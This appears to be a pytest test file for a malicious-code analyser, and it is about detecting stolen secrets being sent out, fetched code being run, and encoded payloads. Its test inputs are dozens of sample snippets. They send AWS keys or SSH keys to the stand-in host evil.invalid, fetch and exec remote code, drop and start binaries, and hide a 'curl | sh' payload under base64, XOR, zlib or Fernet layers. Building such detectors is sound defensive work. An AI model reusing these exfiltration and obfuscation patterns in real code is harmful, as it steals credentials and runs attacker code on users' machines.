"""Each chain of the contracts, spelled the ways samples spell it."""

# ruff: noqa: E501 - samples stand as somebody would write them
from __future__ import annotations

import base64
import textwrap
import zlib

import pytest

from tests.analysis.machines import Seen, run

FETCH = "requests.get('https://evil.invalid/a').text"
PAYLOAD = base64.b64encode(b"import os\nos.system('curl https://evil.invalid | sh')").decode()


def seen(text: str) -> Seen:
    return run(textwrap.dedent(text))


# ---------------------------------------------------------------- what is stolen leaves

SENDS = {
    "plain": """
        import os, requests
        requests.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "getenv through a dict": """
        import os, requests
        body = {}
        body['k'] = os.getenv('AWS_SECRET_ACCESS_KEY')
        requests.post('https://evil.invalid', json=body)
    """,
    "f-string in a URL": """
        import os, urllib.request
        key = os.environ.get('AWS_SECRET_ACCESS_KEY', '')
        urllib.request.urlopen(f'https://evil.invalid/?k={key}')
    """,
    "session object": """
        import os, requests
        s = requests.Session()
        s.post('https://evil.invalid', data={'k': os.environ['AWS_SECRET_ACCESS_KEY']})
    """,
    "encoded before": """
        import os, base64, requests
        key = base64.b64encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode())
        requests.post('https://evil.invalid', data=key)
    """,
    "class attribute": """
        import os, requests
        class Config:
            KEY = os.environ['AWS_SECRET_ACCESS_KEY']
            def send(self):
                requests.post('https://evil.invalid', data=self.KEY)
        Config().send()
    """,
    "instance attribute": """
        import os, requests
        class Client:
            def __init__(self):
                self.key = os.environ['AWS_SECRET_ACCESS_KEY']
            def send(self):
                requests.post('https://evil.invalid', data=self.key)
        Client().send()
    """,
    "thread": """
        import os, requests, threading
        def work(key):
            requests.post('https://evil.invalid', data=key)
        threading.Thread(target=work, args=(os.environ['AWS_SECRET_ACCESS_KEY'],)).start()
    """,
    "thread subclass": """
        import os, requests, threading
        class Work(threading.Thread):
            def run(self):
                requests.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
        Work().start()
    """,
    "decorator": """
        import os, requests
        def at_once(function):
            function(os.environ['AWS_SECRET_ACCESS_KEY'])
            return function
        @at_once
        def send(key):
            requests.post('https://evil.invalid', data=key)
    """,
    "partial": """
        import os, requests, functools
        post = functools.partial(requests.post, 'https://evil.invalid')
        post(data=os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "map": """
        import os, requests
        def send(key):
            requests.post('https://evil.invalid', data=key)
        list(map(send, [os.environ['AWS_SECRET_ACCESS_KEY']]))
    """,
    "lambda": """
        import os, requests
        (lambda k: requests.post('https://evil.invalid', data=k))(os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "walrus": """
        import os, requests
        if (key := os.environ.get('AWS_SECRET_ACCESS_KEY')):
            requests.post('https://evil.invalid', data=key)
    """,
    "comprehension": """
        import os, requests
        found = {n: os.environ[n] for n in ['AWS_SECRET_ACCESS_KEY'] if n in os.environ}
        requests.post('https://evil.invalid', json=found)
    """,
    "star import": """
        from os import *
        from requests import *
        post('https://evil.invalid', data=environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "aliases": """
        import os as o
        from requests import post as p
        e = o.environ
        p('https://evil.invalid', data=e['AWS_SECRET_ACCESS_KEY'])
    """,
    "getattr": """
        import os, requests
        getattr(requests, 'po' + 'st')('https://evil.invalid',
            data=getattr(os, 'environ')['AWS_SECRET_ACCESS_KEY'])
    """,
    "__import__": """
        __import__('requests').post('https://evil.invalid',
            data=__import__('os').environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "importlib": """
        import importlib
        r = importlib.import_module('requests')
        o = importlib.import_module(''.join(['o', 's']))
        r.post('https://evil.invalid', data=o.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "globals": """
        import os, requests
        def send(key):
            requests.post('https://evil.invalid', data=key)
        globals()['se' + 'nd'](os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "vars": """
        import os, requests
        vars(requests)['post']('https://evil.invalid', data=vars(os)['environ']['AWS_SECRET_ACCESS_KEY'])
    """,
    "__dict__": """
        import os, requests
        requests.__dict__['post']('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "sys.modules": """
        import sys, os, requests
        sys.modules['requests'].post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "look-alike letters": """
        import os, requests
        requests.\uff50ost('https://evil.invalid', data=os.\uff45nviron['AWS_SECRET_ACCESS_KEY'])
    """,
    "finally": """
        import os, requests
        try:
            key = os.environ['AWS_SECRET_ACCESS_KEY']
        except KeyError:
            key = ''
        finally:
            requests.post('https://evil.invalid', data=key)
    """,
    "with": """
        import os, requests
        with requests.Session() as s:
            s.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "generator": """
        import os, requests
        def keys():
            yield os.environ['AWS_SECRET_ACCESS_KEY']
        for key in keys():
            requests.post('https://evil.invalid', data=key)
    """,
    "async": """
        import os, asyncio, aiohttp
        async def main():
            async with aiohttp.ClientSession() as s:
                await s.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
        asyncio.run(main())
    """,
    "socket": """
        import os, socket
        s = socket.socket()
        s.connect(('evil.invalid', 443))
        s.sendall(os.environ['AWS_SECRET_ACCESS_KEY'].encode())
    """,
    "alternatives after a branch": """
        import os, requests, random
        if random.random() > 0.5:
            key = os.environ['AWS_SECRET_ACCESS_KEY']
        else:
            key = 'nothing'
        requests.post('https://evil.invalid', data=key)
    """,
    "the function is an alternative": """
        import os, requests, random
        if random.random() > 0.5:
            f = requests.post
        else:
            f = print
        f('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "nested function": """
        import os, requests
        def outer():
            key = os.environ['AWS_SECRET_ACCESS_KEY']
            def inner():
                requests.post('https://evil.invalid', data=key)
            return inner
        outer()()
    """,
    "global variable set in a function": """
        import os, requests
        KEY = ''
        def load():
            global KEY
            KEY = os.environ['AWS_SECRET_ACCESS_KEY']
        def send():
            requests.post('https://evil.invalid', data=KEY)
        load()
        send()
    """,
    "the definition follows the call": """
        import os, requests
        def main():
            send(os.environ['AWS_SECRET_ACCESS_KEY'])
        def send(key):
            requests.post('https://evil.invalid', data=key)
        main()
    """,
    "keyword unpacking": """
        import os, requests
        options = {'data': os.environ['AWS_SECRET_ACCESS_KEY']}
        requests.post('https://evil.invalid', **options)
    """,
    "star arguments": """
        import os, requests
        args = ['https://evil.invalid', os.environ['AWS_SECRET_ACCESS_KEY']]
        requests.post(*args)
    """,
    "atexit": """
        import os, requests, atexit
        def leave():
            requests.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
        atexit.register(leave)
    """,
    "property": """
        import os, requests
        class Config:
            @property
            def key(self):
                return os.environ['AWS_SECRET_ACCESS_KEY']
        requests.post('https://evil.invalid', data=Config().key)
    """,
    "inherited": """
        import os, requests
        class Base:
            def key(self):
                return os.environ['AWS_SECRET_ACCESS_KEY']
        class Child(Base):
            def send(self):
                requests.post('https://evil.invalid', data=self.key())
        Child().send()
    """,
    "methodcaller": """
        import os, requests, operator
        operator.methodcaller('post', 'https://evil.invalid', os.environ['AWS_SECRET_ACCESS_KEY'])(requests)
    """,
    "list of functions": """
        import os, requests
        for step in [requests.post]:
            step('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
    "dispatch table": """
        import os, requests
        table = {'go': requests.post, 'stop': print}
        table['go']('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])
    """,
}


@pytest.mark.parametrize("how", SENDS)
def test_a_secret_that_is_sent_is_one_flow(how: str) -> None:
    found = seen(SENDS[how])
    flows = list(found.of("secrets.env->net.send"))
    assert flows, [(f.id, f.line, f.value) for f in found.facts]
    assert {f.activation for f in flows} == {"import"}
    assert flows[0].path_class == "aws"


def test_two_secrets_that_leave_by_one_call_are_two_facts() -> None:
    found = seen("""
        import os, requests
        key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
        requests.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'] + key)
    """)
    assert {"secrets.env->net.send", "secrets.key->net.send"} <= found.flows()


def test_nothing_flows_where_values_are_unrelated() -> None:
    found = seen("""
        import os, requests
        key = os.environ['AWS_SECRET_ACCESS_KEY']
        requests.post('https://evil.invalid', data='hello')
    """)
    assert found.flows() == set()
    assert {"secrets.env", "net.send"} <= found.ids()


# ---------------------------------------------------------------- what is fetched runs

FETCHES = {
    "exec": f"import requests\nexec({FETCH})",
    "eval of compile": f"import requests\neval(compile({FETCH}, 'x', 'exec'))",
    "urllib2": "import urllib2\nexec(urllib2.urlopen('http://evil.invalid').read())",
    "alias of exec": f"import requests\nrun = exec\nrun({FETCH})",
    "exec by getattr": f"import requests, builtins\ngetattr(builtins, 'ex' + 'ec')({FETCH})",
    "exec by __builtins__": f"import requests\n__builtins__.__dict__['exec']({FETCH})",
    "exec by globals": f"import requests\nglobals()['__builtins__'].exec({FETCH})",
    "exec by lambda": f"import requests\n(lambda c: exec(c))({FETCH})",
    "FunctionType": f"import requests, types\ntypes.FunctionType(compile({FETCH}, '', 'exec'), {{}})()",
    "map": f"import requests\nlist(map(exec, [{FETCH}]))",
    "wide letters": f"import requests\n\uff45xec({FETCH})",
    "in a class body": f"import requests\nclass A:\n    exec({FETCH})",
    "default argument": f"import requests\ndef f(x=exec({FETCH})):\n    pass",
    "conditional": f"import requests\nexec({FETCH}) if True else None",
    "and": f"import requests\nTrue and exec({FETCH})",
    "decorated": f"import requests\n@exec\ndef f(): pass\nexec({FETCH})",
}


@pytest.mark.parametrize("how", FETCHES)
def test_what_is_fetched_and_run_is_one_flow(how: str) -> None:
    found = run(FETCHES[how])
    assert "net.fetch->code.run" in found.flows(), [(f.id, f.line, f.value) for f in found.facts]


DROPS = {
    "requests and subprocess": """
        import requests, subprocess
        with open('/tmp/x.bin', 'wb') as f:
            f.write(requests.get('https://evil.invalid/x').content)
        subprocess.Popen(['/tmp/x.bin'])
    """,
    "urlretrieve and os.system": """
        import urllib.request, os
        urllib.request.urlretrieve('https://evil.invalid/x', '/tmp/x.bin')
        os.system('/tmp/x.bin &')
    """,
    "pathlib and startfile": """
        import requests, os
        from pathlib import Path
        target = Path.home() / 'update.exe'
        target.write_bytes(requests.get('https://evil.invalid/x').content)
        os.startfile(str(target))
    """,
    "tempfile": """
        import tempfile, requests, subprocess
        f = tempfile.NamedTemporaryFile(delete=False)
        f.write(requests.get('https://evil.invalid/x').content)
        f.close()
        subprocess.call(['python', f.name])
    """,
    "two functions": """
        import requests, subprocess, os
        def fetch(path):
            open(path, 'wb').write(requests.get('https://evil.invalid/x').content)
        def main():
            path = os.path.join('/tmp', 'stage.bin')
            fetch(path)
            subprocess.run([path])
        main()
    """,
}


@pytest.mark.parametrize("how", DROPS)
def test_a_file_that_is_fetched_written_and_started_is_one_flow(how: str) -> None:
    found = seen(DROPS[how])
    starts = {"net.fetch->file.write->process.spawn", "net.fetch->file.write->process.shell"}
    assert starts & found.flows(), [(f.id, f.line, f.value) for f in found.facts]


# ---------------------------------------------------------------- what is decoded runs

DECODES = {
    "base64": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))",
    "from import": f"from base64 import b64decode as d\nexec(d('{PAYLOAD}'))",
    "codecs": f"import codecs\nexec(codecs.decode(b'{PAYLOAD}', 'base64'))",
    "by name": f"exec(getattr(__import__('base64'), 'b64decode')('{PAYLOAD}'))",
    "reversed": f"import base64\nexec(base64.b64decode('{PAYLOAD[::-1]}'[::-1]))",
    "pieces": f"import base64\na = '{PAYLOAD[:20]}'\nb = '{PAYLOAD[20:]}'\nexec(base64.b64decode(a + b))",
    "hex": f"exec(bytes.fromhex('{base64.b64decode(PAYLOAD).hex()}'))",
    "char codes": f"exec(''.join(map(chr, {list(base64.b64decode(PAYLOAD))})))",
    "comprehension": f"exec(''.join(chr(c ^ 7) for c in {[c ^ 7 for c in base64.b64decode(PAYLOAD)]}))",
    "home-made loop": (
        "def decode(data, key):\n    out = ''\n    for c in data:\n        out += chr(c ^ key)\n"
        f"    return out\nexec(decode({[c ^ 9 for c in base64.b64decode(PAYLOAD)]}, 9))"
    ),
    "zlib": (
        "import zlib, base64\n"
        f"exec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(base64.b64decode(PAYLOAD)))!r})))"
    ),
    "class attribute": f"import base64\nclass A:\n    data = '{PAYLOAD}'\nexec(base64.b64decode(A.data))",
}


@pytest.mark.parametrize("how", DECODES)
def test_what_is_decoded_and_run_is_a_layer(how: str) -> None:
    found = run(DECODES[how])
    assert len(found.layers) == 1, [(f.id, f.line, f.value) for f in found.facts]
    assert "os.system" in found.layers[0].excerpt
    assert any(f.layer == 1 and f.host == "evil.invalid" for f in found.facts)
    assert "code.run" in found.ids()
    assert {f.activation for f in found.facts} == {"import"}


def test_fernet_with_its_key_beside_it() -> None:
    from cryptography.fernet import Fernet

    key = Fernet.generate_key()
    token = Fernet(key).encrypt(base64.b64decode(PAYLOAD))
    found = run(f"from cryptography.fernet import Fernet\nexec(Fernet({key!r}).decrypt({token!r}))")
    assert "data.decrypt->code.run" in found.flows()
    assert [layer.via[-1] for layer in found.layers] == ["fernet"]
    assert any(f.layer == 1 and f.host == "evil.invalid" for f in found.facts)


def test_a_text_that_is_written_and_started_is_a_layer() -> None:
    found = seen("""
        import subprocess, sys
        code = "import os, requests\\nrequests.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])"
        with open('/tmp/stage_two.py', 'w') as f:
            f.write(code)
        subprocess.Popen([sys.executable, '/tmp/stage_two.py'])
    """)
    assert "file.write->process.spawn" in found.flows()
    assert "secrets.env->net.send" in {f.id for f in found.facts if f.layer == 1}


def test_a_text_written_and_not_started_is_none() -> None:
    found = seen("""
        code = "import os\\nos.system('curl https://evil.invalid | sh')"
        open('/tmp/stage_two.py', 'w').write(code)
    """)
    assert found.layers == ()
